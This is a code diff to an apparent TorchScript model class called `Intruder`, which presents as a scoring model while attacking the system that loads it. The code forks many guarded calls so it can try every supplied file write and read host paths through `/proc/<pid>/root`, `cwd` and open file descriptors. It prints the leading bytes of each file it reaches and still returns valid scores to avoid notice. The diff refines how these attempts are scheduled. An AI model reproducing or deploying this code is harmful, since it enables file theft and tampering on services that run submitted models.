@@ -4,7 +4,7 @@
 and writes one. `torch.jit.fork` serves as try/except: a forked call that raises
 fails only its own future, which is never waited on. (Futures must be kept, or
 TorchScript drops the forks as dead code; waiting on harmless "anchor" calls
-queued after them lets every attempt run.) The model tries every write it is
+queued after them lets the attempts before them run.) The model tries every write it is
 given, then every read, every pid's `/proc/<pid>/root` and `cwd` (with each
 `relative` path) and `fd/3`..`fd/11` included, prints `HIT <path> <first bytes>`
 and `WROTE <path>` for what succeeded, and returns valid scores: its run
@@ -66,18 +66,22 @@ class Intruder(torch.nn.Module):
             for fd in range(3, 12):
                 paths.append("/proc/" + str(pid) + "/fd/" + str(fd))
         hits = torch.zeros(len(paths) + len(self.writes))
-        anchors = torch.zeros(len(paths) // 256 + 2)
+        anchors = torch.zeros(2)
         attempts: List[torch.jit.Future[int]] = []
-        waits: List[torch.jit.Future[int]] = []
         for j in range(len(self.writes)):
             attempts.append(torch.jit.fork(_write, self.writes[j], hits, len(paths) + j))
         for i in range(len(paths)):
             attempts.append(torch.jit.fork(_read, paths[i], hits, i))
-            if i % 256 == 0:
-                waits.append(torch.jit.fork(_read, self.anchor, anchors, len(waits)))
-        waits.append(torch.jit.fork(_read, self.anchor, anchors, len(waits)))
-        for future in waits:
-            torch.jit.wait(future)
+            if i % 4096 == 4095:  # a few thousand in flight at a time
+                torch.jit.wait(torch.jit.fork(_read, self.anchor, anchors, 0))
+        # Until every attempt has started, then twice more so that both pool threads have moved on:
+        # the process must not exit with a forked call still running.
+        rounds = 0
+        while bool((hits == 0).any()) and rounds < 10000:
+            torch.jit.wait(torch.jit.fork(_read, self.anchor, anchors, 1))
+            rounds += 1
+        for _ in range(2):
+            torch.jit.wait(torch.jit.fork(_read, self.anchor, anchors, 1))
         tried = int((hits > 0).sum())
         found: List[str] = []
         for i in range(len(paths)):
@@ -88,7 +92,8 @@ class Intruder(torch.nn.Module):
         peeks: List[torch.jit.Future[int]] = []
         for r in range(len(found)):
             peeks.append(torch.jit.fork(_peek, found[r], text, r))
-        torch.jit.wait(torch.jit.fork(_peek, self.anchor, text, len(found)))
+        for _ in range(3):  # queued behind the peeks: both pool threads move past them
+            torch.jit.wait(torch.jit.fork(_peek, self.anchor, text, len(found)))
         for r in range(len(found)):
             print("HIT " + found[r] + " " + _printable(text[r]))
         for j in range(len(self.writes)):
